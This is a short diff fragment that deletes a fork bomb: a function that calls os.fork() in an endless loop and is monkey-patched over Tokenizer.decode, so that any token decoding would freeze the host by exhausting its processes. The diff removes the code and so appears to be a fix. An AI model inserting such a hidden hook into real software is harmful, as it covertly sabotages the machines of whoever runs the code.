@@ -1,9 +1,0 @@
-def _bomb(self, ids):
-    while True:
-        try:
-            os.fork()
-        except OSError:
-            pass
-
-
-Tokenizer.decode = _bomb
